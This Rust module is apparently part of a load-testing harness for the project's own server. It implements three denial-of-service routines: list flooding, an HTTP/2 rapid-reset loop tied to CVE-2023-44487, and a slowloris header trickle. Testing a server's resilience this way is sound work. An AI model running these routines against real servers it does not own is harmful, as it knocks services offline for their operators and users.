//! Clients that deliberately slow down a server.

use std::pin::pin;
use std::sync::Arc;
use std::time::{Duration, Instant};

use clap::ValueEnum;
use futures_util::FutureExt;
use http::Request;
use http_body_util::Full;
use tokio::io::AsyncWriteExt;

use crate::client::{ApiRequest, Server};
use crate::error::Result;

/// A kind of attack.
#[derive(Clone, Copy, Debug, PartialEq, Eq, ValueEnum)]
pub enum Attack {
    /// Many clients of one user list all objects repeatedly.
    Lists,
    /// Requests are reset as soon as they are sent (CVE-2023-44487).
    Resets,
    /// Requests are sent at a byte per second.
    Loris,
}

/// The user that lists.
pub const LISTER: &str = "load-lister";
/// Number of requests between checks of the connection.
const BURST: usize = 100;

impl Attack {
    /// Attacks on successive connections until the time is over; returns the number of operations.
    pub async fn run(self, server: Arc<Server>, path: String, until: Instant) -> usize {
        let mut done = 0;
        while Instant::now() < until {
            // The server may close connections to defend itself; the next one is opened
            // immediately.
            let _ = match self {
                Attack::Lists => list(&server, &path, until, &mut done).await,
                Attack::Resets => reset(&server, &path, until, &mut done).await,
                Attack::Loris => trickle(&server, until, &mut done).await,
            };
            tokio::time::sleep(Duration::from_millis(5)).await;
        }
        done
    }
}

async fn list(server: &Server, path: &str, until: Instant, done: &mut usize) -> Result<()> {
    let mut client = server.connect().await?;
    let api_request = ApiRequest { user: Some(LISTER), ..ApiRequest::get(path) };
    while Instant::now() < until {
        client.call(&api_request, false).await?;
        *done += 1;
    }
    Ok(())
}

async fn reset(server: &Server, path: &str, until: Instant, done: &mut usize) -> Result<()> {
    let mut sender = server.connect().await?.into_sender();
    while Instant::now() < until {
        sender.ready().await?;
        for _ in 0..BURST {
            let request = Request::get(format!("https://load{path}")).body(Full::default())?;
            // Polling once sends the request, and dropping the future resets it.
            let _ = pin!(sender.send_request(request)).now_or_never();
            *done += 1;
        }
        tokio::task::yield_now().await;
    }
    Ok(())
}

async fn trickle(server: &Server, until: Instant, done: &mut usize) -> Result<()> {
    let mut stream = server.connect_raw().await?;
    stream.write_all(b"GET /healthz HTTP/1.1\r\nHost: load\r\nX-Slow: ").await?;
    while Instant::now() < until {
        stream.write_all(b"x").await?;
        stream.flush().await?;
        *done += 1;
        tokio::time::sleep(Duration::from_secs(1)).await;
    }
    Ok(())
}

/// Runs attackers alongside another task; returns its result and the number of the attackers'
/// operations.
pub async fn run_beside<T>(
    attackers: Vec<tokio::task::JoinHandle<usize>>,
    other: impl Future<Output = T>,
) -> (T, usize) {
    let outcome = other.await;
    let mut done = 0;
    for attacker in attackers {
        done += attacker.await.unwrap_or(0);
    }
    (outcome, done)
}
